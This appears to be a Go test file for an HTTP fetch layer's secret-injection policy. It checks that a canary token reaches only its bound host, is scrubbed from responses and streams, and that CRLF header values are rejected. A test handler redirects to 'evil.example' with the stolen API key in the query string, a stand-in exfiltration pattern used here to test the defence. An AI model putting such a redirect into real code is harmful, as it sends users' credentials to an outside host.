//go:build !js

package fetch

import (
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
)

const canary = "canary-4f1c9a7e-secret"

// secrets is a policy that injects the canary for one host.
func secrets(inject ...Injection) *Policy {
	return &Policy{Inject: inject, Secret: func(name string) (string, bool) { return canary, name == "TOKEN" }}
}

// echoAll gives back everything of a request, in every part of the answer.
func echoAll(w http.ResponseWriter, r *http.Request) {
	var all bytes.Buffer
	r.Header.Write(&all)
	body, _ := io.ReadAll(r.Body)
	flat := strings.ReplaceAll(all.String(), "\r\n", "|")
	w.Header().Set("X-Echo", flat)
	if r.URL.Path == "/redirect" {
		w.Header().Set("Location", "http://evil.example/?stolen="+r.Header.Get("X-Api-Key"))
		w.WriteHeader(302)
	}
	fmt.Fprintf(w, "%s %s", flat, body)
}

// THREAT[SE-02] A secret goes to the host that it is bound to, and nowhere else:
// not to another host, port or scheme, and not back to the guest.
func TestSecretStaysBound(t *testing.T) {
	n := &fakeNet{}
	var seen []string
	n.serve(t, func(w http.ResponseWriter, r *http.Request) {
		seen = append(seen, fmt.Sprintf("%s%s %v", r.Host, r.URL, r.Header.Get("X-Api-Key") == canary))
		echoAll(w, r)
	})
	var log []Event
	p := secrets(Injection{Host: "api.example", HTTP: true, Headers: map[string]string{"X-Api-Key": "${TOKEN}", "Authorization": "Bearer ${TOKEN}"}})
	p.AllowedPorts = []uint16{80, 8080}
	p.Log = func(e Event) { log = append(log, e) }
	c := n.client(t, p)
	var out strings.Builder
	for _, url := range []string{
		"http://api.example/", "http://api.example:8080/", "http://sub.api.example/", "http://api.example.evil.example/",
		"http://api.example/redirect", "http://evil.example/", "http://api.example/x?y",
	} {
		resp, err := c.Do(context.Background(), &Request{URL: url, Header: Header{{"x-api-key", "guest's"}}, Raw: true})
		fmt.Fprintf(&out, "%+v %v\n", resp, err)
		if resp != nil {
			out.Write(resp.Body)
		}
	}
	fmt.Fprintf(&out, "%+v", log)
	if strings.Contains(out.String(), canary) {
		t.Errorf("the secret came back:\n%s", out.String())
	}
	want := "api.example/ true; api.example:8080/ false; sub.api.example/ false; api.example.evil.example/ false; " +
		"api.example/redirect true; evil.example/?stolen=" + strings.Repeat("*", len(canary)) + " false; evil.example/ false; api.example/x?y true"
	if got := strings.Join(seen, "; "); got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
}

func TestInjectionNeedsHTTPS(t *testing.T) {
	in, err := secrets(Injection{Host: "api.example", Headers: map[string]string{"A": "${TOKEN}"}}).injected(Target{Scheme: "http", Host: "api.example", Port: 80})
	if err != nil || len(in.fields) != 0 {
		t.Errorf("%v %v", in, err)
	}
	in, err = secrets(Injection{Host: "api.example", Headers: map[string]string{"A": "${TOKEN}"}}).injected(Target{Scheme: "https", Host: "api.example", Port: 443})
	if err != nil || len(in.fields) != 1 || in.fields[0].Value != canary {
		t.Errorf("%v %v", in, err)
	}
}

func TestInjectionErrors(t *testing.T) {
	for _, value := range []string{"${NOTHING}", "${TOKEN", "a\r\nb"} {
		c := (&fakeNet{}).client(t, secrets(Injection{Host: "api.example", HTTP: true, Headers: map[string]string{"A": value}}))
		if _, err := get(c, "http://api.example/"); err == nil || strings.Contains(err.Error(), canary) {
			t.Errorf("%q: %v", value, err)
		}
	}
}

func TestForms(t *testing.T) {
	basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("user:"+canary))
	in := injection{secrets: forms(basic)}
	text := "password=" + canary + " header=" + basic
	resp := &Response{Reason: canary, Header: Header{{"X", canary + canary}}}
	body, err := io.ReadAll(scrubbed{in.scrub(resp), strings.NewReader(text)})
	if got := fmt.Sprintf("%s %+v", body, resp); err != nil || len(body) != len(text) || strings.Contains(got, canary) || strings.Contains(got, basic[6:]) {
		t.Error(got, err)
	}
	if forms("short") != nil {
		t.Error("a short value is looked for")
	}
}

// scrubbed is a scrubber as a reader.
type scrubbed struct {
	s *scrubber
	r io.Reader
}

func (s scrubbed) Read(p []byte) (int, error) { return s.s.read(s.r, p) }

// THREAT[SE-02] A secret is blotted out of a stream wherever it is cut, and what
// only begins like one comes through.
func TestScrubStream(t *testing.T) {
	text := "canary- can " + canary + "canary-4f1c9a7e-secre" + canary + "cc" + canary[:5]
	want := strings.ReplaceAll(text, canary, strings.Repeat("*", len(canary)))
	for _, size := range []int{1, 2, 3, 7, 20, 1000} {
		s := &scrubber{secrets: [][]byte{[]byte("Bearer " + canary), []byte(canary)}}
		got, err := io.ReadAll(scrubbed{s, pieces{strings.NewReader(text), size}})
		if err != nil || string(got) != want {
			t.Errorf("%d at a time: %v\n%s\n%s", size, err, got, want)
		}
	}
}

// pieces reads a few bytes at a time.
type pieces struct {
	r io.Reader
	n int
}

func (p pieces) Read(b []byte) (int, error) { return p.r.Read(b[:min(p.n, len(b))]) }
